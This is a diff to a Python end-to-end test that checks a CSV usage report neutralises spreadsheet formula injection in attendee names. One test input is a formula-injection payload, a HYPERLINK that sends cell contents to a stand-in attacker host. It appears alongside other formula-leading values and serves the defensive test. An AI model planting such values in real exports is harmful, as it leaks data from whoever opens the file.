@@ -10,6 +10,7 @@ from typing import Any
 
 import httpx
 import openai
+import pytest
 
 from shared.governance.rollups import REFUSALS
 from tests.harness import CHAT, AppHost, EventSetup, Simulator, Storage, run_timer
@@ -92,9 +93,11 @@ def test_csv_report_has_the_same_totals(host: AppHost, event: EventSetup, storag
     assert sum(Decimal(r["cost"]) for r in rows) == Decimal(spent) / 10**9
 
 
+@pytest.mark.e2e  # the report as the worker writes it
 def test_attendee_names_cannot_act_as_formulas_in_the_csv(
-    host: AppHost, event: EventSetup, storage: Storage
+    app_host: AppHost, event: EventSetup, storage: Storage
 ) -> None:
+    host = app_host
     # (No ':' in a name: those are kept for signed-in attendees.)
     names = ['=HYPERLINK("evil.example/?d="&A1,"open")', "@sum(1+1)", "+1-2", "-3"]
     for name in names:
@@ -107,6 +110,8 @@ def test_attendee_names_cannot_act_as_formulas_in_the_csv(
         f"/events/{event.id}/usage", params={"group_by": "attendee", "format": "csv"}
     )
     rows = {row["user"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
     stored = {a["user"] for a in host.manage.get(f"/events/{event.id}/attendees").json()}
     for name in stored - {"attendee@example.com"}:
         assert "'" + name in rows, (name, list(rows))  # shown as text, never run
